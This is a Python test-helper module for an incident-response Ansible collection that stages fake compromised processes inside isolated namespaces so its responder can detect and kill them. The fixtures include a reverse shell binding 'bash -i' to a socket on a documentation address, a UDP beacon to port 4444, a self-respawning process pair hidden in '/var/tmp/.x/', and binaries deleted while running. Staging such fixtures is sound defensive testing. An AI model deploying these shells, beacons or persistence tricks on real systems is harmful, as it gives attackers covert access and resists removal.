# Copyright: (c) 2026, Firebreak contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A host of processes to play with, in namespaces of its own: what the scenarios start, and what the responder calls."""

from __future__ import annotations

import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import traceback

from ansible_collections.firebreak.response.plugins.module_utils._evidence._bundle import Bundle
from ansible_collections.firebreak.response.plugins.module_utils._host import _processes as table
from ansible_collections.firebreak.response.plugins.module_utils._host._sockets import read_sockets
from ansible_collections.firebreak.response.plugins.module_utils._host._workdir import Workdir
from ansible_collections.firebreak.response.plugins.module_utils._processes import _run
from ansible_collections.firebreak.response.plugins.module_utils._processes._suspects import Suspects

TREE = next(str(parent.parent) for parent in pathlib.Path(__file__).resolve().parents if parent.name == "ansible_collections")
QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
BEACON = """
import socket, time, sys
s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
if {connected}: s.connect(("{peer}", 4444))
while True:
    try: s.send(b"x") if {connected} else s.sendto(b"x", ("{peer}", 4444))
    except OSError: pass
    time.sleep(0.2)
"""
RESPAWNER = """
import os, subprocess, sys, time
me, other = sys.argv[1:3]
home = "/var/tmp/.x/"
def alive(name):
    try: pid = open(home + name).read(); return b"watch" in open("/proc/%s/cmdline" % pid, "rb").read()
    except OSError: return False
open(home + me, "w").write(str(os.getpid()))
while True:
    if not alive(other): subprocess.Popen([home + "watch", home + "w.py", other, me]); time.sleep(0.1)
    time.sleep(0.01)
"""
OPEN: list[socket.socket] = []  # the attacker's ends
SLEEP = "import time\nwhile True: time.sleep(1)\n"


def until(condition, seconds: float = 10) -> None:
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "not within {0} s".format(seconds)
        time.sleep(0.01)


def program(folder: str, name: str, source: str = "") -> str:
    """A copy of a program, of this Python where none is named."""
    os.makedirs(folder, exist_ok=True)
    shutil.copy(source or os.path.realpath(sys.executable), folder + "/" + name)
    os.chmod(folder + "/" + name, 0o755)
    return folder + "/" + name


def start(argv: list[str], name: str | None = None, **more) -> subprocess.Popen:
    """Start a program under another first argument, and wait until it is that program."""
    program_file = argv[0]
    options = {**QUIET, **more}
    environment = dict(os.environ, PYTHONHOME=sys.base_prefix)
    process = subprocess.Popen([name or argv[0], *argv[1:]], executable=program_file, env=environment, start_new_session=True, **options)
    until(lambda: (os.readlink("/proc/{0}/exe".format(process.pid)) == os.path.realpath(program_file)))
    time.sleep(0.05)
    return process


def deleted(folder: str, name: str, script: str, *arguments: str) -> subprocess.Popen:
    """A copied interpreter that runs a script; both are deleted under its feet."""
    path = program(folder, name)
    with open(path + ".py", "w", encoding="ascii") as handle:
        handle.write(script)
    process = start([path, path + ".py", *arguments], name)
    time.sleep(0.3)
    os.unlink(path)
    os.unlink(path + ".py")
    return process


def reverse_shell() -> subprocess.Popen:
    """bash -i whose standard streams are a connection."""
    server = socket.socket()
    server.bind(("203.0.113.5", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname())
    other, _peer = server.accept()
    process = start(["/bin/bash", "--norc", "-i"], "bash", stdin=client, stdout=client, stderr=client)
    client.close()
    server.close()
    OPEN.append(other)
    return process


def alive(pid: int) -> bool:
    process = table.read_process(pid)
    return process is not None and process.alive


def suspects(**options) -> Suspects:
    found = Suspects(table.first_look(), read_sockets(), **options)
    found.find()
    return found


def full(work: Workdir, autonomy: str = "terminate", **options) -> dict[str, object]:
    """All steps, as `contain` takes them."""
    found = suspects(**options)
    found.decide(autonomy)
    found.freeze(work)
    bundle = Bundle(work, "volatile", work.case)
    found.capture(bundle, deferred=True)
    found.kill()
    found.capture_rest(bundle)
    bundle.close()
    return _run.judged(found, autonomy)


def told(result: dict[str, object]) -> str:
    """Findings in short, for a failed assertion."""
    return "\n".join(
        str([one["pid"], one["exe"], one["state"], one["level"], one["action"], one["kinship"], one["outcome"], one["captured"],
             [rule["id"] for rule in one["rules"]]]) for one in result["findings"])


def pids(entries: object) -> set[int]:
    return {entry["pid"] for entry in entries}


def private(folder: str) -> None:
    """An empty folder of our own in place of the machine's; what this file and its Python need of it stays."""
    needed = sorted({path for path in (TREE, sys.prefix) if path.startswith(folder + "/")})
    kept = tempfile.mkdtemp(dir="/run")
    for number, path in enumerate(needed):
        os.mkdir("{0}/{1}".format(kept, number))
        subprocess.run(["mount", "--bind", path, "{0}/{1}".format(kept, number)], check=True)
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", folder], check=True)
    for number, path in enumerate(needed):
        os.makedirs(path)
        subprocess.run(["mount", "--bind", "{0}/{1}".format(kept, number), path], check=True)


def play(scenario) -> int:
    """Play the host: private folders, a network without a peer, then the scenario, whose responder is a child."""
    assert os.getpid() == 1
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/run"], check=True)
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/var/lib"):
        private(folder)
    for line in ("link set lo up", "addr add 203.0.113.5/32 dev lo", "link add d0 type veth peer name d1", "link set d1 up", "addr add 10.9.9.1/24 dev d0",
                 "-6 addr add fd99::1/64 dev d0 nodad", "link set d0 up", "route add default dev d0", "-6 route add default dev d0"):
        subprocess.run(["ip", *line.split()], check=True)
    work = Workdir("INC-1", tempfile.mkdtemp(prefix="firebreak-") + "/work")
    _run.Workdir = lambda case, writable=True: Workdir(case, work.root, writable)
    # Children of the responder that are left to process 1 are reaped at once, as an init would.
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    respond = scenario(work)
    responder = os.fork()
    if responder == 0:
        code = 1
        try:
            respond()
            code = 0
        finally:  # the child must never go on as a second test
            if code:
                traceback.print_exc()
            sys.stdout.flush()
            sys.stderr.flush()
            os._exit(code)
    while True:
        pid, status = os.wait()
        if pid == responder:
            return os.waitstatus_to_exitcode(status) if hasattr(os, "waitstatus_to_exitcode") else status >> 8
